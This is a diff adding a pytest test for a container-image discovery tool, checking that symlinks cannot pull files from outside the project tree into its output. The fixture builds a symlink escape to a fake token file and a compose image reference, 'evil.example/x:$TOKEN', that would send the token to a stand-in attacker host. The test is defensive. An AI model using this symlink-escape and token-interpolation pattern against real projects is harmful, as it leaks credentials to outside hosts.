@@ -243,3 +243,23 @@ def test_pin_leaves_links_and_what_it_may_not_write(command, scratch):
         f"# larder lock: alpine:3.19\nFROM alpine:3.19@{digest_of(1)}\n")
     assert json.loads(command("discover", "--json", cwd=folder).out)["image"].startswith(
         "alpine:3.19@sha256:")
+
+
+def test_links_do_not_lead_out_of_the_tree(command, scratch):
+    """Whoever wrote the tree must not have other files read into what is printed."""
+    tree, out = scratch / "tree", scratch / "out"
+    tree.mkdir()
+    out.mkdir()
+    (out / "env").write_text("TOKEN=hunter2\n")
+    (out / "compose.yml").write_text("services:\n  a:\n    image: never:1\n")
+    (out / "Dockerfile").write_text("FROM never:2\n")
+    (tree / ".env").symlink_to("../out/env")
+    (tree / "link").symlink_to("../out")
+    (tree / "compose.yml").write_text(
+        "include: [link/compose.yml]\nservices:\n  a:\n    image: evil.example/x:$TOKEN\n"
+        "  b:\n    build: link\n  c:\n    image: alpine:3\n")
+    for words in ("--json", "."), (".",), ("compose.yml",):
+        done = command("discover", *words, cwd=tree)
+        assert "alpine:3" in done.out
+        for never in ("hunter2", "never:"):
+            assert never not in done.out + done.err, done
